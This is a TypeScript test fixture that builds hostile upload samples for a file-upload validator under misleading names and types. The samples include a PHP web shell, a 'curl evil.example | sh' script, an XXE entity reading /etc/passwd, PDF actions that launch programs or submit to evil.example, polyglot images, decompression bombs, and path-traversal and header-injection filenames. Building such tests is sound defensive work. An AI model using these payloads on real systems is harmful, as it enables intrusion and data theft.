import { createHash } from "node:crypto";
import { deflateSync } from "node:zlib";
import sharp from "sharp";
import { chunk, jpegBytes, pdfBytes, pngBytes } from "./files";

/** Texts that no stored file may contain: a place, a program, a page. */
export const planted = [
  "48.8566",
  "GPSLatitude",
  "alert(1)",
  "<script",
  "<?php",
  "onload",
  "EICAR-STANDARD",
  "PK\u0003\u0004",
];

export type Hostile = { what: string; bytes: Buffer; name: string; type: string };

const script = "<script>alert(1)</script>";
const page = `<!doctype html><html><body onload="alert(1)">${script}</body></html>`;
const drawing = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`;
const archive = Buffer.concat([
  Buffer.from("PK\u0003\u0004"),
  Buffer.alloc(60),
  Buffer.from("PK\u0005\u0006"),
  Buffer.alloc(18),
]);
const xmp = `<x:xmpmeta xmlns:x="adobe:ns:meta/"><exif:GPSLatitude>48.8566</exif:GPSLatitude></x:xmpmeta>${script}`;

/** Contents that are neither a document nor a picture that we accept. */
const foreign: Record<string, Buffer> = {
  page: Buffer.from(page),
  drawing: Buffer.from(drawing),
  "drawing behind a declaration": Buffer.from(`<?xml version="1.0"?>\n${drawing}`),
  "drawing that names a file": Buffer.from(`<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${drawing}`),
  "page after a mark of order": Buffer.from(`\uFEFF${page}`),
  php: Buffer.from("<?php system($_GET['c']); ?>alert(1)"),
  shell: Buffer.from("#!/bin/sh\ncurl evil.example | sh\n"),
  program: Buffer.concat([Buffer.from("MZ\u0090\u0000"), Buffer.alloc(200)]),
  elf: Buffer.concat([Buffer.from("\u007fELF"), Buffer.alloc(200)]),
  archive,
  eicar: Buffer.from("X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"),
  "gif that is a program": Buffer.from("GIF89a/*\u0001\u0000*/=1;alert(1)//"),
  "gif with an archive": Buffer.concat([Buffer.from("GIF89a\u0001\u0000\u0001\u0000\u0000\u0000\u0000;"), archive]),
  bitmap: Buffer.concat([Buffer.from("BM"), Buffer.alloc(60)]),
  icon: Buffer.concat([Buffer.of(0, 0, 1, 0, 1, 0), Buffer.alloc(60)]),
  photoshop: Buffer.concat([Buffer.from("8BPS\u0000\u0001"), Buffer.alloc(60)]),
  flash: Buffer.concat([Buffer.from("FWS\u0009"), Buffer.alloc(60)]),
  word: Buffer.concat([Buffer.from("d0cf11e0a1b11ae1", "hex"), Buffer.alloc(600)]),
  rich: Buffer.from("{\\rtf1 {\\object\\objdata alert(1)}}"),
  postscript: Buffer.from("%!PS\n(%pipe%id) (w) file\n"),
  "page before a PDF": Buffer.concat([Buffer.from(page), pdfBytes()]),
  nothing: Buffer.alloc(0),
  zeros: Buffer.alloc(512),
};

/** Pictures and documents with a truthful type that contain hidden data, or less than they state. */
async function trueFiles(): Promise<Record<string, Buffer>> {
  const exif = { IFD0: { Copyright: script, ImageDescription: page, Orientation: "6" }, IFD3: gps };
  const image = sharp({ create: { width: 24, height: 16, channels: 3, background: "teal" } });
  const [jpeg, png] = [
    await image.clone().withExif(exif).jpeg().toBuffer(),
    await image.clone().withExif(exif).png().toBuffer(),
  ];
  const segment = (marker: number, body: Buffer | string) => {
    const data = Buffer.from(body);
    const head = Buffer.of(0xff, marker, 0, 0);
    head.writeUInt16BE(data.length + 2, 2);
    return Buffer.concat([head, data]);
  };
  const withChunk = (name: string, data: string | Buffer) => {
    const bytes = pngBytes();
    return Buffer.concat([bytes.subarray(0, 33), chunk(name, Buffer.from(data)), bytes.subarray(33)]);
  };
  const tails: Record<string, Buffer> = {
    page: Buffer.from(page),
    archive,
    php: Buffer.from("<?php alert(1)"),
    paper: pdfBytes(),
  };
  return {
    "jpeg with a place": jpeg,
    "png with a place": png,
    "jpeg with a program in its comment": jpegBytes(segment(0xfe, page)),
    "jpeg with words of its maker": jpegBytes(segment(0xe1, `http://ns.adobe.com/xap/1.0/\0${xmp}`)),
    "jpeg with a caption": jpegBytes(segment(0xed, `Photoshop 3.0\u00008BIM\u0004\u0004${page}`)),
    "jpeg with colours of its own": jpegBytes(segment(0xe2, `ICC_PROFILE\0\u0001\u0001${page}`)),
    "jpeg with a thumbnail": jpegBytes(segment(0xe0, `JFXX\0\u0010${page}`)),
    "png with words": withChunk("tEXt", `Comment\0${page} 48.8566`),
    "png with packed words": withChunk("zTXt", Buffer.concat([Buffer.from("Comment\0\0"), deflateSync(page)])),
    "png with words in a language": withChunk("iTXt", `XML:com.adobe.xmp\0\0\0\0\0${xmp}`),
    "png with a place of its camera": withChunk("eXIf", Buffer.from(`MM\0*GPSLatitude 48.8566${script}`)),
    "png with a part nobody knows": withChunk("evIl", page),
    ...Object.fromEntries(
      Object.entries(tails).flatMap(([description, tail]) => [
        [`jpeg before a ${description}`, Buffer.concat([jpegBytes(), tail])],
        [`png before a ${description}`, Buffer.concat([pngBytes(), tail])],
      ]),
    ),
    "bomb as wide as a field": pngBytes({ width: 50_000, height: 50_000 }),
    "bomb as long as a road": pngBytes({ width: 1, height: 2_000_000_000 }),
    "picture of nothing": pngBytes({ width: 0, height: 0 }),
    ...cutOff("jpeg", jpeg),
    ...cutOff("png", png),
    ...cutOff("paper", pdfBytes(400)),
  };
}

const gps = { GPSLatitudeRef: "N", GPSLatitude: "48/1 51/1 24/1", GPSLongitudeRef: "E", GPSLongitude: "2/1 21/1 8/1" };

const cutOff = (description: string, bytes: Buffer) =>
  Object.fromEntries(
    [0.05, 0.2, 0.5, 0.8, 0.95].map((share) => [
      `${description} cut off at ${share}`,
      bytes.subarray(0, Math.floor(bytes.length * share)),
    ]),
  );

const acts = [
  "/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>",
  "/AA<</O<</S/Java#53cript/JS(1)>>>>",
  "/OpenAction<</S/Launch/F(calc.exe)>>",
  "/OpenAction<</S/SubmitForm/F(https://evil.example)>>",
  "/OpenAction<</S/ImportData/F(x)>>",
  "/Names<</EmbeddedFiles 5 0 R>>",
  "/Annots[<</Subtype/RichMedia>>]",
  "/AcroForm<</XFA 5 0 R>>",
];

/** PDFs with a script, one for each way to hide it. */
function activeDocuments(): Record<string, Buffer> {
  const pdfWith = (...objects: (string | Buffer)[]) =>
    Buffer.concat([Buffer.from("%PDF-1.7\n"), ...objects.map((each) => Buffer.from(each)), Buffer.from("\n%%EOF\n")]);
  const packed = (dictionary: string, body: Buffer) => [
    `9 0 obj<<${dictionary}/Length ${body.length}>>stream\n`,
    body,
    "\nendstream endobj\n",
  ];
  const ways: Record<string, (act: string) => Buffer> = {
    plain: (act) => pdfWith(`1 0 obj<<${act}>>endobj`),
    packed: (act) => pdfWith(...packed("/Type/ObjStm/N 1/First 4/Filter/FlateDecode", deflateSync(`<<${act}>>`))),
    "packed, its filter first": (act) =>
      pdfWith(...packed("/Filter/FlateDecode/N 1/First 4/Type/ObjStm", deflateSync(`<<${act}>>`))),
    "packed under an escaped name": (act) =>
      pdfWith(...packed("/Type/Obj#53tm/N 1/Filter/FlateDecode", deflateSync(`<<${act}>>`))),
    "packed behind a long dictionary": (act) =>
      pdfWith(...packed(`/Type/ObjStm/Filter/FlateDecode/X(${" ".repeat(900)})`, deflateSync(`<<${act}>>`))),
    "packed behind a string that looks like an object": (act) =>
      pdfWith(...packed("/Type/ObjStm/X(9 0 obj<<)/Filter/FlateDecode", deflateSync(`<<${act}>>`))),
    "packed behind a string that looks like a stream": (act) =>
      pdfWith(...packed("/Type/ObjStm/X(stream\n)/Filter/FlateDecode", deflateSync(`<<${act}>>`))),
    "packed twice": (act) =>
      pdfWith(
        ...packed(
          "/Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]",
          Buffer.from(`${deflateSync(`<<${act}>>`).toString("hex")}>`),
        ),
      ),
    "packed otherwise": (act) =>
      pdfWith(
        ...packed("/Type/ObjStm/Filter/ASCIIHexDecode", Buffer.from(`${Buffer.from(`<<${act}>>`).toString("hex")}>`)),
      ),
    "packed as differences": (act) =>
      pdfWith(
        ...packed(
          "/Type/ObjStm/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 1>>",
          deflateSync(Buffer.from([...Buffer.from(`<<${act}>>`)].flatMap((byte) => [0, byte]))),
        ),
      ),
  };
  return Object.fromEntries(
    Object.entries(ways).flatMap(([way, pdfFor]) =>
      acts.map((act, index) => [`active document ${index}, ${way}`, pdfFor(act)]),
    ),
  );
}

const names = [
  "passport.png",
  "passport.jpg",
  "passport.pdf",
  "passport.php.png",
  "passport.png.exe",
  "../../../etc/passport.png",
  "..\\..\\passport.jpg",
  "passport.svg\0.png",
  "passport\u202egpj.exe.pdf",
  "\r\nContent-Type: text/html\r\n\r\n.png",
  ".png",
  `${"a".repeat(4000)}.png`,
];
const typesOf: Record<string, string> = { png: "image/png", jpg: "image/jpeg", pdf: "application/pdf" };

/** Each kind of contents under misleading names and types, by description. */
export async function hostileFiles(): Promise<Hostile[]> {
  const all = { ...foreign, ...(await trueFiles()), ...activeDocuments() };
  return Object.entries(all).flatMap(([description, bytes]) => {
    const byte = createHash("sha1").update(description).digest()[0] ?? 0;
    const lies = [0, 1, 2, 3, 4, 5].map((turn) => names[(byte + turn * 5) % names.length] ?? "passport.png");
    const truth = ["honest.png", "honest.jpg", "honest.pdf"];
    return [...truth, ...lies].map((name) => ({
      what: description,
      bytes,
      name,
      type: typesOf[name.split(".").at(-1) ?? ""] ?? "",
    }));
  });
}
